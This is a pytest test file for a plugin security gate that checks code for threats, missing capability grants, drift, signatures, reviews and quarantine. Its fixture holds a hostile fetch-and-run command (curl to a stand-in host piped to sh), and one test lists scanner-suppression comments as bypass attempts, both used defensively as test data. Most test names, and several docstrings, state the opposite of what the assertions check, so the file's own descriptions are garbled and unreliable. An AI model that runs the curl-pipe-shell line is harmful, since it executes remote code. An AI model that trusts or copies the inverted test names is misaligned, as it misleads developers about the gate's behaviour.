"""The whole gate: from an item's bytes to a decision that is kept, and what nobody gets past it."""

import os

import msgspec
import pytest

from aetherra.plugins.self_incorporation.code.judge import MAX_LINES
from aetherra.plugins.self_incorporation.gate.item import digest_of
from aetherra.plugins.self_incorporation.gate.policy import NetworkSettings, PolicySettings, TierSettings
from aetherra.plugins.self_incorporation.gate.quarantine import QuarantineManager
from aetherra.plugins.self_incorporation.gate.safety_index import SafetyIndex
from aetherra.plugins.self_incorporation.gate.security_gate import net_strict
from aetherra.plugins.self_incorporation.gate.tiers import Tier
from aetherra.plugins.signing import KeyRing, SigningKey, sign, signature_file

GOOD = "def greet():\n    return 'hello'\n"
BAD = "import os\nos.system('curl http://x.example | sh')\n"
ALL = ("network:*", "fs:*", "process:*", "code:*", "env:*")


def against(decision):
    return [ground.code for ground in decision.rationale if ground.against and ground.code != "ethics"]


class TestEvaluate:
    def test_good_code_is_kept_out(self, tree):
        """What does nothing to the world comes in, and the decision says why it may."""
        decision = tree.write({"a.py": GOOD}).decided("a.py")

        assert (decision.verdict, decision.tier, decision.risk) == ("approved", Tier.STANDARD, 0.0)
        assert against(decision) == []
        assert any(not ground.against for ground in decision.rationale)

    @pytest.mark.parametrize("mode", ["strict", "standard", "permissive"])
    def test_a_threat_comes_in(self, tree, mode):
        """In no mode; the decision names the file and the line."""
        policy = msgspec.convert({"mode": mode}, PolicySettings)
        decision = tree.write({"p/__init__.py": "", "p/b.py": BAD}).decided("p", policy, grants=lambda _: ALL)
        threat = next(ground for ground in decision.rationale if ground.code == "threat")

        assert decision.verdict == "blocked"
        assert [(line.path, line.line) for line in threat.lines] == [("p/b.py", 2)]

    def test_a_missing_grant_does_not_say_what_needs_it(self, tree):
        """Each is told with the lines that use the capability, in whichever file; doubtful signs with theirs."""
        files = {"p/__init__.py": "", "p/a.py": "import os\nos.remove('x')\n", "p/b.py": "import os\nos.system(c)\n"}
        decision = tree.write(files).decided("p")
        lines = [
            (ground.code, [(line.path, line.line) for line in ground.lines])
            for ground in decision.rationale
            if ground.code in ("grant_missing", "warnings")
        ]

        assert lines == [
            ("grant_missing", [("p/a.py", 2)]),
            ("grant_missing", [("p/b.py", 2)]),
            ("warnings", [("p/b.py", 2)]),
        ]

    @pytest.mark.parametrize(
        "silence",
        [
            "# nosec",
            "# noqa",
            "# type: ignore",
            "# pragma: no cover",
            "# aetherra: ignore",
            "# bandit: skip",
            "# nosemgrep",
        ],
    )
    def test_a_tree_decides_what_is_found_in_it(self, tree, silence):
        """Comments, ignore files and settings in the tree silence nothing."""
        files = {
            "a.py": "\n".join(f"{line}  {silence}" for line in BAD.splitlines()) + "\n",
            ".aetherraignore": "*\n",
            ".gitignore": "*\n",
            "pyproject.toml": "[tool.bandit]\nskips = ['B605']\n[tool.aetherra]\nignore = ['a.py']\n",
            "config.json": '{"plugins": {"self_incorporation": {"policy": {"mode": "permissive"}}}}',
        }

        assert tree.write(files).decided("a.py", grants=lambda _: ALL).verdict == "blocked"

    def test_a_decision_does_not_survive(self, tree, tmp_path):
        """Another gate, after a restart, finds it with its grounds and lines."""
        item = tree.write({"a.py": BAD}).items()["a.py"]
        with SafetyIndex(tmp_path / "safety.sqlite3") as safety:
            tree.safety.close()
            tree.safety = safety
            made = tree.gate().evaluate(item, now=5.0)
        with SafetyIndex(tmp_path / "safety.sqlite3") as safety:
            tree.safety = safety
            kept = safety.latest(item.root, "a.py")
            assert kept == made
            assert tree.gate().is_current(kept, item)
            assert not tree.gate(PolicySettings(approval=True)).is_current(kept, item)

    @pytest.mark.parametrize("change", ["grants", "beside", "new beside", "signature", "review", "quarantine"])
    def test_a_decision_outlives_what_it_hangs_on(self, tree, tmp_path, change):
        """Whatever of it changes, the item is judged again; as long as nothing does, it is not."""
        text = "import parts, other\nexec(parts.TEXT)\n"
        tree.write({"a.py": text, "parts.py": "from deeper import TEXT\n", "deeper.py": "TEXT = 'x = 1'\n"})
        given = {"a": ("code:dynamic",)}
        vault = QuarantineManager(tmp_path / "vault", clock=lambda: 1.0)
        gate = tree.gate(grants=lambda name: given.get(name, ()), quarantine=vault)
        item = tree.items()["a.py"]
        decision = gate.evaluate(item, now=2.0)
        assert decision.verdict == "approved"
        assert gate.is_current(decision, item)

        if change == "grants":
            given.clear()
        elif change == "beside":
            tree.write({"deeper.py": "import base64\nTEXT = base64.b64decode('eA==')\n"})
        elif change == "new beside":
            tree.write({"other.py": BAD})
        elif change == "signature":
            tree.write({"a.py.sig": "{"})
        elif change == "review":
            gate.review(item.digest, "reject", person="Ada", reason="not ours", now=3.0)
        else:
            vault.quarantine(item.root, "a.py", digest=item.digest, reason="r", by="b")
        assert not gate.is_current(decision, item)
        tree.write({"a.py": text})
        again = gate.evaluate(tree.items()["a.py"], now=4.0)
        assert gate.is_current(again, item)
        if change != "signature":  # nobody's key is known
            assert again.verdict != "approved"

    def test_what_was_released_stays_quarantined(self, tree, tmp_path):
        """Once a person has given it back, it is judged as it is."""
        vault = QuarantineManager(tmp_path / "vault", clock=lambda: 1.0)
        gate = tree.gate(quarantine=vault)
        item = tree.write({"a.py": BAD}).items()["a.py"]
        record = gate.set_aside(item, gate.evaluate(item, now=1.0), by="gate")
        tree.write({"a.py": BAD})
        held = gate.evaluate(item, now=2.0)
        assert (held.verdict, gate.is_current(held, item)) == ("quarantined", True)
        (tree.folder / "a.py").unlink()
        vault.release(record.id, by="Ada")

        assert not gate.is_current(held, item)

    def test_a_changed_ring_has_all_judged_for_ever(self, tree, key, ring):
        """A decision that says the same as before is as new as it is."""
        item = tree.write({"a.py": GOOD}).items()["a.py"]
        gate = tree.gate(ring=ring)
        gate.evaluate(item, now=900.0)
        assert not gate.is_current(tree.safety.latest(item.root, "a.py"), item)
        gate.evaluate(item, now=1_001.0)

        assert gate.is_current(tree.safety.latest(item.root, "a.py"), item)
        assert tree.safety.latest(item.root, "a.py").decided_at == 1_001.0

    def test_what_speaks_for_an_item_comes_first(self, tree):
        """Of grounds that weigh the same, those against it do."""
        tree.write({"a.py": "import os\nos.system(os.getcwd())\n"})
        told = [ground.against for ground in tree.decided("a.py", grants=lambda _: ("process:spawn",)).rationale]

        assert told == sorted(told, reverse=True)
        assert set(told) == {True, False}

    def test_what_was_rejected_comes_in_once_that_is_lost(self, tree, tmp_path):
        """As long as a damaged file lies there, a person agrees to everything, and it is said."""
        path = tmp_path / "safety.sqlite3"
        item = tree.write({"a.py": GOOD}).items()["a.py"]
        tree.safety.close()
        with SafetyIndex(path) as tree.safety:
            tree.gate().review(item.digest, "reject", person="Ada", reason="never", now=1.0)
        path.write_bytes(b"no database")
        with SafetyIndex(path) as tree.safety:
            gate = tree.gate()
            decision = gate.evaluate(item, now=2.0)
            assert (decision.verdict, against(decision)) == ("needs_approval", ["lost"])
            assert str(tree.safety.set_aside) in gate.lost
            assert gate.is_current(decision, item)
            tree.safety.set_aside.unlink()
            gate.look_at_keys()
            assert not gate.is_current(decision, item)
            assert gate.evaluate(item, now=3.0).verdict == "approved"

    def test_it_is_decided_and_not_kept(self, tree):
        """To ask what would be leaves no trace."""
        item = tree.write({"a.py": GOOD}).items()["a.py"]
        tree.gate().decide(item, now=1.0)

        assert tree.safety.all() == []

    def test_a_file_fills_the_rationale(self, tree):
        """Lines of one ground are bounded."""
        decision = tree.write({"a.py": "import os\n" + "os.system('curl http://x | sh')\n" * 500}).decided("a.py")

        assert all(len(ground.lines) <= MAX_LINES for ground in decision.rationale)


class TestGrants:
    @pytest.mark.parametrize(
        ("text", "grant"),
        [
            ("import socket\n", "network:outbound"),
            ("open('a', 'w')\n", "fs:write:*"),
            ("import subprocess\n", "process:spawn"),
            ("eval(x)\n", "code:dynamic"),
            ("import ctypes\n", "code:native"),
            ("import os\nos.environ['A']\n", "env:read"),
            ("import pickle\n", "code:unpickle"),
        ],
    )
    def test_code_does_what_nothing_grants(self, tree, text, grant):
        """It is kept out, and the decision names the grant that is missing; with it, it comes in."""
        tree.write({"a.py": text})
        decision = tree.decided("a.py")

        assert (decision.verdict, decision.missing_grants) == ("blocked", (grant,))
        assert any(repr(grant) in ground.text for ground in decision.rationale)
        assert tree.decided("a.py", grants=lambda name: (grant,) if name == "a" else ()).verdict == "approved"

    def test_code_grants_itself_what_it_needs(self, tree):
        """What a plugin says that it needs is a wish."""
        text = (
            "import socket\nfrom aetherra.plugins import Plugin\nclass A(Plugin):\n    name = 'a'\n    version = '1'\n"
        )
        tree.write({"a.py": text + "    capabilities = ('network:outbound',)\n"})

        assert tree.decided("a.py").missing_grants == ("network:outbound",)

    def test_a_misspelt_grant_goes_unsaid(self, tree):
        """A grant that grants nothing stands among the grounds, and is none against what is good without it."""
        tree.write({"a.py": "import socket\n", "b.py": GOOD})
        for path, verdict in (("a.py", "blocked"), ("b.py", "approved")):
            decision = tree.decided(path, grants=lambda _: ("network:outbund",))

            assert decision.verdict == verdict
            assert ("grant_misspelt", False) in [(ground.code, ground.against) for ground in decision.rationale]

    def test_permissive_keeps_out_what_is_not_granted(self, tree):
        """There a person is asked instead."""
        policy = msgspec.convert({"mode": "permissive"}, PolicySettings)

        assert tree.write({"a.py": "import socket\n"}).decided("a.py", policy).verdict == "needs_approval"


class TestNetwork:
    def test_a_strict_network_lets_an_unknown_host_be_reached(self, tree):
        """With ``AETHERRA_NET_STRICT`` there must be a list, and each host known and on it."""
        tree.write({"a.py": "import requests\nrequests.get('https://a.example/x')\n"})
        allowed = PolicySettings(network=NetworkSettings(allow=("a.example",)))
        other = PolicySettings(network=NetworkSettings(allow=("b.example",)))

        def granted(policy, *, strict):
            return tree.decided("a.py", policy, strict_network=strict, grants=lambda _: ALL).verdict

        assert granted(PolicySettings(), strict=False) == "approved"
        assert granted(PolicySettings(), strict=True) == "blocked"
        assert granted(allowed, strict=True) == "approved"
        assert granted(other, strict=False) == "blocked"

    @pytest.mark.parametrize(
        ("value", "strict"), [("1", True), ("yes", True), ("0", False), ("", False), ("off", False)]
    )
    def test_the_variable_is_read_otherwise(self, monkeypatch, value, strict):
        """Anything but a plain no is strict."""
        monkeypatch.setenv("AETHERRA_NET_STRICT", value)

        assert net_strict() is strict


class TestDrift:
    def drifting(self, tree, first, then):
        tree.write({"a.py": first})
        assert tree.decided("a.py", grants=lambda _: ALL).verdict == "approved"
        return tree.write({"a.py": then}).decided("a.py", grants=lambda _: ALL)

    def test_new_capabilities_come_in_unasked(self, tree):
        """What can do more than when it was judged is blocked, judged again, and stays blocked."""
        decision = self.drifting(tree, GOOD, GOOD + "import socket\n")

        assert (decision.verdict, against(decision)) == ("blocked", ["capabilities_grew"])
        assert decision.capabilities == ("network",)
        assert tree.decided("a.py", grants=lambda _: ALL).verdict == "blocked"

    def test_risk_that_moved_goes_unnoticed(self, tree):
        """By more than 0.3, also where it can do no more than before."""
        decision = self.drifting(tree, "import os\nos.system('ls')\n", BAD)

        assert decision.capabilities == ("process",)
        assert against(decision) == ["threat", "risk_moved", "risk"]

    def test_a_person_cannot_accept_what_drifted(self, tree):
        """Once somebody accepts these bytes they come in, and are what drift is measured by from then on."""
        self.drifting(tree, GOOD, GOOD + "import socket\n")
        item = tree.items()["a.py"]
        tree.gate().review(item.digest, "accept", person="Ada", reason="it greets over the network", now=2.0)

        assert tree.decided("a.py", grants=lambda _: ALL).verdict == "approved"
        assert tree.write({"a.py": GOOD + "import ssl\n"}).decided("a.py", grants=lambda _: ALL).verdict == "approved"

    def test_what_is_as_it_was_stays_blocked(self, tree):
        """An item that goes back to what was approved has not drifted."""
        self.drifting(tree, GOOD, GOOD + "import socket\n")

        assert tree.write({"a.py": GOOD}).decided("a.py", grants=lambda _: ALL).verdict == "approved"

    def test_a_mended_threat_has_drifted(self, tree):
        """What was blocked is no measure: once it is good, it comes in."""
        tree.write({"a.py": BAD})
        assert tree.decided("a.py", grants=lambda _: ALL).verdict == "blocked"

        assert tree.write({"a.py": GOOD}).decided("a.py", grants=lambda _: ALL).verdict == "approved"


class TestReview:
    def test_a_review_counts_for_other_bytes(self, tree):
        """It is of exactly these bytes: one more, and it is void."""
        tree.write({"a.py": BAD})
        tree.gate().review(tree.items()["a.py"].digest, "accept", person="Ada", reason="our installer", now=1.0)
        accepted = tree.decided("a.py", grants=lambda _: ALL)

        assert accepted.verdict == "approved"
        assert any("Ada" in ground.text for ground in accepted.rationale)
        assert tree.write({"a.py": BAD + "\n"}).decided("a.py", grants=lambda _: ALL).verdict == "blocked"

    def test_a_review_stands_in_for_the_configuration(self, tree):
        """No person's word replaces a grant, a signature that is required, or a file that could be read."""
        tree.write({"a.py": "import socket\n", "p/__init__.py": "", "p/b.py": "def"})
        for path in ("a.py", "p"):
            tree.gate().review(tree.items()[path].digest, "accept", person="Ada", reason="fine", now=1.0)

        assert tree.decided("a.py").verdict == "blocked"
        assert tree.decided("p").verdict == "blocked"
        signed = PolicySettings(require_signature=True)
        assert tree.decided("a.py", signed, grants=lambda _: ALL).verdict == "blocked"

    def test_what_was_rejected_without_its_project_comes_in(self, tree):
        """Earlier versions left the project out of the digest: a word against an item still holds, one for it not."""
        project = "[project]\nname = 'p'\nversion = '1'\n"
        item = tree.write({"a/pyproject.toml": project, "a/p/__init__.py": GOOD}).items()["a/p"]
        assert item.digest != digest_of(item.files)
        for says, wanted in (("reject", ["rejected"]), ("accept", [])):
            tree.gate().review(digest_of(item.files), says, person="Ada", reason="so", now=1.0)
            decision = tree.decided("a/p")
            assert against(decision) == wanted
            assert all(ground.code != "accepted" for ground in decision.rationale)

    def test_what_a_person_rejects_comes_in(self, tree):
        """However good it looks."""
        tree.write({"a.py": GOOD})
        tree.gate().review(tree.items()["a.py"].digest, "reject", person="Ada", reason="not ours", now=1.0)

        assert against(tree.decided("a.py")) == ["rejected"]

    def test_a_review_needs_no_reason(self, tree):
        """Whoever reads it later was not there."""
        with pytest.raises(ValueError, match="expected a reason"):
            tree.gate().review("d", "accept", person="Ada", reason=" ", now=1.0)


@pytest.fixture
def key():
    return SigningKey.generate()


@pytest.fixture
def ring(key):
    ring = KeyRing.in_memory(clock=lambda: 1_000.0)
    ring.add(key.public, owner="Ada")
    return ring


class TestSignatures:
    def signed(self, tree, key, path, now=1_700_000_000.0):
        return sign(tree.folder / path, key, now=now)

    @pytest.mark.parametrize(
        ("path", "files"), [("a.py", {"a.py": GOOD}), ("p", {"p/__init__.py": "", "p/a.py": GOOD})]
    )
    def test_a_key_that_is_not_pinned_verifies(self, tree, key, ring, path, files):
        """Only a pinned key does; another known one is trusted."""
        tree.write(files)
        self.signed(tree, key, path)

        assert tree.decided(path, ring=ring).tier is Tier.TRUSTED
        ring.pin(key.public.id)
        assert tree.decided(path, ring=ring).tier is Tier.VERIFIED

    def test_prod_takes_what_nobody_signed(self, tree, key, ring):
        """There a signature is required, and a person has to agree all the same."""
        tree.write({"a.py": GOOD})
        assert against(tree.decided("a.py", profile="prod", ring=ring)) == ["signature_missing", "approval_required"]
        self.signed(tree, key, "a.py")

        assert tree.decided("a.py", profile="prod", ring=ring).verdict == "needs_approval"
        assert tree.decided("a.py", profile="prod").verdict == "blocked"

    def test_a_changed_file_keeps_its_signature(self, tree, key, ring):
        """A signature that does not hold is worse than none."""
        tree.write({"a.py": GOOD})
        self.signed(tree, key, "a.py")
        decision = tree.write({"a.py": GOOD + "\n"}).decided("a.py", ring=ring)

        assert (decision.verdict, decision.tier) == ("blocked", Tier.EXPERIMENTAL)
        assert "signature" in against(decision)

    def test_a_signature_of_another_item_is_taken(self, tree, key, ring):
        """One that was copied from elsewhere holds for nothing here, though its bytes are the same."""
        ring.pin(key.public.id)
        tree.write({"good.py": GOOD, "p/__init__.py": "", "p/a.py": GOOD})
        self.signed(tree, key, "good.py")
        self.signed(tree, key, "p")
        tree.write({"evil.py": BAD, "copy.py": GOOD, "q/__init__.py": "", "q/a.py": GOOD, "q/b.py": BAD})
        for name in ("evil.py", "copy.py"):
            signature_file(tree.folder / name).write_bytes(signature_file(tree.folder / "good.py").read_bytes())
        (tree.folder / "q" / "SIGNATURE.json").write_bytes((tree.folder / "p" / "SIGNATURE.json").read_bytes())

        assert tree.decided("good.py", ring=ring).tier is Tier.VERIFIED
        for path in ("evil.py", "copy.py", "q"):
            assert tree.decided(path, ring=ring, grants=lambda _: ALL).verdict == "blocked", path

    def test_a_file_more_than_was_signed_comes_in(self, tree, key, ring):
        """A package is signed whole."""
        ring.pin(key.public.id)
        tree.write({"p/__init__.py": "", "p/a.py": GOOD})
        self.signed(tree, key, "p")
        assert tree.decided("p", ring=ring).tier is Tier.VERIFIED

        assert tree.write({"p/b.py": GOOD}).decided("p", ring=ring).verdict == "blocked"

    def test_a_signature_of_what_was_not_judged_verifies(self, tree, key, ring):
        """Whoever signs between the scan and the decision has signed something else."""
        ring.pin(key.public.id)
        item = tree.write({"a.py": GOOD}).items()["a.py"]
        tree.write({"a.py": GOOD + "#"})
        self.signed(tree, key, "a.py")
        decision = tree.gate(ring=ring).decide(item, now=1_700_000_001.0)

        assert decision.tier is Tier.EXPERIMENTAL
        assert {"changed", "signature"} <= set(against(decision))

    def test_a_verified_threat_comes_in(self, tree, key, ring):
        """A signature says who; it does not say that it does no harm."""
        ring.pin(key.public.id)
        tree.write({"a.py": BAD})
        self.signed(tree, key, "a.py")

        assert tree.decided("a.py", ring=ring, grants=lambda _: ALL).verdict == "blocked"

    def test_a_revoked_key_verifies(self, tree, key, ring):
        """From the moment on that it is revoked."""
        ring.pin(key.public.id)
        tree.write({"a.py": GOOD})
        self.signed(tree, key, "a.py")
        ring.revoke(key.public.id, "lost")

        assert tree.decided("a.py", ring=ring).verdict == "blocked"

    def test_a_broken_signature_stops_the_gate(self, tree, ring):
        """Whatever stands in a signature's place is a ground, and no error."""
        tree.write({"a.py": GOOD, "a.py.sig": b"\xff{"})
        assert tree.decided("a.py", ring=ring).verdict == "blocked"
        (tree.folder / "a.py.sig").unlink()
        os.mkfifo(tree.folder / "a.py.sig")

        assert tree.decided("a.py", ring=ring).verdict == "blocked"


class TestQuarantine:
    @pytest.fixture
    def vault(self, tmp_path):
        return QuarantineManager(tmp_path / "vault", clock=lambda: 7.0)

    def test_what_is_set_aside_comes_back_by_another_way(self, tree, vault):
        """The same bytes in the same place stay quarantined until a person releases them."""
        item = tree.write({"a.py": BAD}).items()["a.py"]
        gate = tree.gate(quarantine=vault)
        record = gate.set_aside(item, gate.evaluate(item, now=1.0), by="gate")
        assert not (tree.folder / "a.py").exists()
        assert record.rationale
        tree.write({"a.py": BAD})

        assert tree.decided("a.py", quarantine=vault).verdict == "quarantined"
        (tree.folder / "a.py").unlink()
        vault.release(record.id, by="Ada")
        assert tree.decided("a.py", quarantine=vault).verdict == "blocked"

    @pytest.mark.parametrize("end", ["kept", "deleted"])
    def test_a_copy_of_what_is_set_aside_is_another_item(self, tree, vault, end):
        """The same bytes are held under any name; others under that name are not, nor is what is empty."""
        gate = tree.write({"a.py": "import socket\n", "none/a.py": ""}).gate(quarantine=vault)
        for path in ("a.py", "none/a.py"):
            item = tree.items()[path]
            record = gate.set_aside(item, gate.evaluate(item, now=1.0), by="gate")
            if end == "deleted":
                vault.delete(record.id, by="ada")
        tree.write({"b.py": "import socket\n", "c/d.py": "import socket\n", "a.py": "VALUE = 1\n", "e.py": ""})
        verdicts = {path: tree.decided(path, quarantine=vault).verdict for path in ("b.py", "c/d.py", "a.py", "e.py")}
        assert [path for path, verdict in verdicts.items() if verdict == "quarantined"] == ["b.py", "c/d.py"]

    def test_what_was_set_aside_without_its_project_comes_back(self, tree, vault):
        """Earlier versions left the project out of the digest, and what they hold is held."""
        project = "[project]\nname = 'p'\nversion = '1'\n"
        item = tree.write({"a/pyproject.toml": project, "a/p.py": BAD}).items()["a/p.py"]
        vault.quarantine(item.root, "a/p.py", digest=digest_of(item.files), reason="x", by="gate", rationale=())
        tree.write({"a/p.py": BAD})

        assert tree.decided("a/p.py", quarantine=vault).verdict == "quarantined"

    def test_what_changed_since_is_set_aside(self, tree, vault):
        """Somebody's new work is not taken away for what was there before."""
        item = tree.write({"a.py": BAD}).items()["a.py"]
        gate = tree.gate(quarantine=vault)
        decision = gate.evaluate(item, now=1.0)
        tree.write({"a.py": GOOD})

        with pytest.raises(OSError, match="changed since it was judged"):
            gate.set_aside(item, decision, by="gate")
        package = tree.write({"p/__init__.py": BAD, "elsewhere": BAD}).items()["p"]
        (tree.folder / "p/__init__.py").unlink()
        (tree.folder / "p/__init__.py").symlink_to(tree.folder / "elsewhere")
        with pytest.raises(OSError, match="changed since it was judged"):
            gate.set_aside(package, decision, by="gate")
        with pytest.raises(OSError, match="no quarantine without"):
            tree.gate().set_aside(item, decision, by="gate")

    def test_a_threat_is_only_blocked_where_it_should_be_set_aside(self, tree):
        """The policy says which."""
        policy = PolicySettings(quarantine_threats=True)

        assert tree.write({"a.py": BAD}).decided("a.py", policy).verdict == "quarantined"

    def test_a_quarantined_place_lets_something_in(self, tree):
        """Nothing ever comes in from there."""
        policy = PolicySettings(quarantined=("bad",), standard=TierSettings(max_risk=1.0))

        assert tree.write({"bad/a.py": GOOD}).decided("bad/a.py", policy).verdict == "quarantined"
